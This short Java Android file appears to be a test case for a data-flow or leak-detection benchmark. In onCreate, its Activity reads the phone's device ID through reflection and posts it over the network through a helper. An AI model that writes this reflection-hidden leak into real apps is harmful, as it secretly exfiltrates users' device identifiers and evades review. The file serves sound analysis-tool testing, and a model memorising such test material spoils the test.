package org.example.flows.basic;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;
import org.example.flows.Net;

public class Reflected extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            Object phone = getSystemService(TELEPHONY_SERVICE);
            Class<?> type = Class.forName("android.telephony.TelephonyManager");
            Method method = type.getMethod("getDeviceId");
            Net.post((String) method.invoke(phone));
        } catch (Exception problem) {
            finish();
        }
    }
}
